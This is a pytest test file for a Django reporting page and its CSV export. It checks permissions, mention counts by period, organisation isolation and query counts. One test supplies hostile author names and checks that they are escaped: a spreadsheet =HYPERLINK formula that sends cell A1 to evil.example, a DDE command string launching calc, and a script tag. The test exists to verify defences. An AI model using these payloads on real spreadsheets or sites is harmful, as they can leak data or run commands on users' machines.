"""The reports page and its CSV export through HTTP: permissions, figures, periods, escaping."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from panal.core import clock
from panal.demo import builders
from panal.org.services import add_member, set_current_organisation

NOW = datetime(2026, 3, 31, 12, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def frozen_clock():
    clock.set_now(NOW)
    yield
    clock.set_now(None)


@pytest.fixture
def mastodon(org):
    return builders.channel_account(org, kind="mastodon", slug="acme-masto", name="Masto")


@pytest.fixture
def sample(add, account, mastodon):
    """Four mentions in the last 30 days, and others the report must leave out."""
    ana = {"id": "u1", "handle": "ana", "display_name": "Ana Pérez"}
    add(
        {"external_id": "m1", "text": "Mi Acme Móvil va lento", "lang": "es", "author": ana,
         "created_at": "2026-03-31T08:00:00Z"},
        # 23:30 UTC on the 30th, although it is already the 31st where it was written.
        {"external_id": "m2", "text": "Still waiting", "lang": "en", "author": ana,
         "visibility": "private", "created_at": "2026-03-31T01:30:00+02:00"},
        {"external_id": "m3", "text": "Acme Hogar, la caldera otra vez", "author": {"id": "u2"},
         "created_at": "2026-03-20T10:00:00Z"},
        {"external_id": "old", "text": "Acme Móvil en febrero", "lang": "es",
         "created_at": "2026-02-01T10:00:00Z"},
        {"external_id": "ancient", "text": "hace mucho", "created_at": "2025-06-01T10:00:00Z"},
        {"external_id": "future", "text": "fecha futura", "created_at": "2026-04-05T10:00:00Z"},
        {"external_id": "gone", "text": "lo borraré", "created_at": "2026-03-31T09:00:00Z"},
    )  # fmt: skip
    add({"external_id": "gone", "event": "deleted"})
    add(
        {"external_id": "t1", "text": "cobertura excelente", "lang": "es",
         "author": {"id": "b1", "handle": "beto"}, "created_at": "2026-03-31T10:00:00Z"},
        to=mastodon,
    )  # fmt: skip


def report_of(response):
    assert response.status_code == 200
    return response.context["report"]


def counts(rows, by: str = "key") -> dict[str, int]:
    return {getattr(r, by): r.count for r in rows}


def csv_lines(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode())))


# --- who may see what ----------------------------------------------------------------

PAGES = ["reports", "reports-export"]


@pytest.mark.parametrize("page", PAGES)
def test_anonymous_users_are_sent_to_login(page):
    response = Client().get(reverse(page))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login") + "?next=")


@pytest.mark.parametrize("page", PAGES)
def test_a_role_without_view_reports_gets_403(sample, client_for, page):
    response = client_for("advocate").get(reverse(page))
    assert response.status_code == 403
    assert "Ana" not in response.content.decode()


@pytest.mark.parametrize("role", ["everyone", "agent", "director"])
@pytest.mark.parametrize("page", PAGES)
def test_readers_get_the_reports(sample, client_for, role, page):
    response = client_for(role).get(reverse(page))
    assert response.status_code == 200
    assert "Ana Pérez" in response.content.decode()


def test_the_nav_links_to_reports_only_for_readers(client_for):
    link = f'href="{reverse("reports")}"'
    assert link in client_for("everyone").get(reverse("inbox")).content.decode()
    # The advocate's 403 page still has the shell, without the link.
    assert link not in client_for("advocate").get(reverse("inbox")).content.decode()
    page = client_for("everyone").get(reverse("reports")).content.decode()
    assert f'{link} aria-current="page">Informes</a>' in page


# --- the figures -------------------------------------------------------------------


def test_the_figures_of_the_last_30_days(sample, client_for):
    report = report_of(client_for("everyone").get(reverse("reports")))
    assert report.period.first_day == date(2026, 3, 2)
    assert report.period.last_day == date(2026, 3, 31)
    assert report.total == 4
    per_day = {d.day: d.count for d in report.days}
    assert len(per_day) == 30  # days without mentions are there, with 0
    assert {d: n for d, n in per_day.items() if n} == {
        date(2026, 3, 31): 2,
        date(2026, 3, 30): 1,  # the UTC day, not the writer's
        date(2026, 3, 20): 1,
    }
    assert report.peak == 2
    assert report.busiest.day == date(2026, 3, 31)
    assert counts(report.channels) == {"api": 3, "mastodon": 1}
    assert counts(report.languages) == {"es": 3, "en": 1}  # m3 by the language stage
    assert counts(report.brands, by="label") == {"Acme Móvil": 1, "Acme Hogar": 1, "Sin marca": 2}
    assert counts(report.visibility) == {"public": 3, "private": 1}
    first, *others = [(r.label, r.handle, r.count) for r in report.authors]
    assert first == ("Ana Pérez", "ana", 2)
    assert sorted(others) == [("beto", "beto", 1), ("u2", "", 1)]
    assert report.visibility[0].share == 75.0
    assert report.channels[1].bar == pytest.approx(100 / 3)


def test_the_page_shows_the_figures_in_spanish(sample, client_for):
    page = client_for("everyone").get(reverse("reports")).content.decode()
    assert '<p class="stat-big" id="report-total">4</p>' in page
    assert "Sin marca" in page and "Privada" in page and "Español" in page
    assert "Autores más activos" in page
    assert 'style="height: 100.0%"' in page  # not "100,0": CSS wants a dot in any language


def test_the_page_in_english(sample, client_for):
    client = client_for("everyone")
    client.post(reverse("set-language"), {"language": "en"})
    page = client.get(reverse("reports")).content.decode()
    assert "Most active authors" in page and "No brand" in page


@pytest.mark.parametrize(
    ("days", "total", "length"),
    [("7", 3, 7), ("30", 4, 30), ("90", 5, 90), ("", 4, 30), ("12", 4, 30), ("x", 4, 30)],
)
def test_the_period_is_7_30_or_90_days(sample, client_for, days, total, length):
    report = report_of(client_for("everyone").get(reverse("reports"), {"days": days}))
    assert report.total == total
    assert len(report.days) == report.period.days == length
    assert report.period.last_day == date(2026, 3, 31)


def test_an_empty_period(client_for):
    report = report_of(client_for("everyone").get(reverse("reports")))
    assert report.total == report.peak == 0
    assert report.busiest is None
    assert report.channels == report.authors == []


def test_only_the_current_organisation_counts(sample, add, client_for, users, other_org):
    theirs = builders.channel_account(other_org, kind="reddit", slug="other-r", name="Other")
    add(
        {"external_id": "x1", "text": "secreto", "created_at": "2026-03-31T08:00:00Z",
         "author": {"id": "spy", "display_name": "Espía de Otros"}},
        to=theirs,
    )  # fmt: skip
    client = client_for("everyone")
    page = client.get(reverse("reports"))
    assert report_of(page).total == 4
    assert "Espía" not in page.content.decode()
    assert "Espía" not in client.get(reverse("reports-export")).content.decode()
    # A member of both sees one organisation at a time: the one they work in.
    add_member(other_org, users["everyone"], ["everyone"])
    set_current_organisation(users["everyone"], other_org.id)
    report = report_of(client.get(reverse("reports")))
    assert report.total == 1
    assert counts(report.channels) == {"reddit": 1}


# --- the export --------------------------------------------------------------------


def test_the_export_has_the_same_figures(sample, client_for):
    lines = csv_lines(client_for("everyone").get(reverse("reports-export"), {"days": "7"}))
    assert lines[0] == ["section", "key", "label", "mentions"]
    assert ["total", "", "", "3"] in lines
    days = [line for line in lines if line[0] == "day"]
    assert len(days) == 7
    assert ["day", "2026-03-31", "2026-03-31", "2"] in days
    assert ["day", "2026-03-27", "2026-03-27", "0"] in days
    assert ["channel", "api", "Webhook firmado / API", "2"] in lines
    assert ["channel", "mastodon", "Mastodon", "1"] in lines
    assert ["language", "es", "Español", "2"] in lines
    assert ["brand", "", "Sin marca", "2"] in lines
    assert ["visibility", "private", "Privada", "1"] in lines
    assert ["author", "ana", "Ana Pérez", "2"] in lines


# --- strangers' strings ------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_hostile_author_names_are_escaped_and_neutralised(add, client_for):
    add(
        {"external_id": "e1", "text": "uno", "created_at": "2026-03-30T10:00:00Z",
         "author": {"id": "e1", "handle": "@=cmd|' /C calc'!A0",
                    "display_name": "<script>alert(1)</script>"}},
        {"external_id": "e2", "text": "dos", "created_at": "2026-03-30T11:00:00Z",
         "author": {"id": "e2", "handle": "-2+3", "display_name": EVIL_NAME}},
    )  # fmt: skip
    client = client_for("everyone")
    page = client.get(reverse("reports")).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in page
    authors = page.split('id="report-authors"')[1].split("</table>")[0]
    assert "<a " not in authors  # names link to nothing
    lines = csv_lines(client.get(reverse("reports-export")))
    authors = {line[2]: line[1] for line in lines if line[0] == "author"}
    assert authors["'" + EVIL_NAME] == "'-2+3"
    assert authors["<script>alert(1)</script>"] == "'=cmd|' /C calc'!A0"
    for line in lines:
        assert not line[1].startswith(("=", "+", "-", "@")), line
        assert not line[2].startswith(("=", "+", "-", "@")), line


# --- bounded queries -----------------------------------------------------------------


def many(n: int, start: int = 0) -> list[dict]:
    langs = ["es", "en", "pt", ""]
    return [
        {"external_id": f"q{i}", "text": f"Acme Móvil número {i}", "lang": langs[i % 4],
         "visibility": "private" if i % 3 else "public",
         "created_at": f"2026-03-{1 + i % 30:02d}T10:00:00Z",
         "author": {"id": f"a{i % 17}", "handle": f"h{i % 17}"}}
        for i in range(start, start + n)
    ]  # fmt: skip


def count_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url, {"days": "90"})
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_query_count_does_not_grow_with_the_data(add, mastodon, client_for):
    client = client_for("everyone")
    add(*many(5))
    small = {page: count_queries(client, reverse(page)) for page in PAGES}
    add(*many(20, start=5))
    add(*many(15, start=25), to=mastodon)
    assert report_of(client.get(reverse("reports"), {"days": "90"})).total == 40
    assert {page: count_queries(client, reverse(page)) for page in PAGES} == small
